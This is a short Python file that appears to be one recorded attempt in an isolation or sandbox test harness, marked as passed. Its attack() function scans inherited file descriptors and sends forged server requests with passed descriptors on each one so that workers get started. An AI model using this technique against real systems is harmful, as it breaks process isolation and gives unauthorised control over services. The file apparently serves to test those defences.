# outcome: passed
# It sends the server's own requests on every descriptor it has, so as to have workers started.
import os
import socket

from attempts import got_in, wire


def attack():
    answers = []
    for descriptor in range(3, 16):
        if descriptor == wire():
            continue
        try:
            one = socket.socket(fileno=os.dup(descriptor))
            left, right = socket.socketpair()
            socket.send_fds(one, [b"F"], [left.fileno(), right.fileno(), 1])
            answers.append(descriptor)
        except OSError:
            continue
    if answers:
        got_in(f"something took a request on {answers}")
